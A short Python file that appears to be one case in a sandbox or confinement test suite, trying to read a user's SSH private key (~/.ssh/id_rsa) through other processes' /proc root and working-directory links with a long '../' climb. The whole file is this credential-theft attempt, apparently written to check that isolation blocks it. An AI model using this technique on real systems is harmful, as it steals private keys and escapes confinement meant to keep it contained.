# name: read a secret through another process's root or working directory
# line: 50
from attack import STAGE, processes, secret_at, try_each

up = "../" * 40
below = STAGE["home"].lstrip("/")
TRIES = [(f"/proc/{pid}/root", f"/proc/{pid}/root/{below}/.ssh/id_rsa") for pid in processes()]
TRIES += [(f"/proc/{pid}/cwd", f"/proc/{pid}/cwd/{up}{below}/.ssh/id_rsa") for pid in processes()]
try_each((name, lambda path=path: secret_at(path)) for name, path in TRIES)
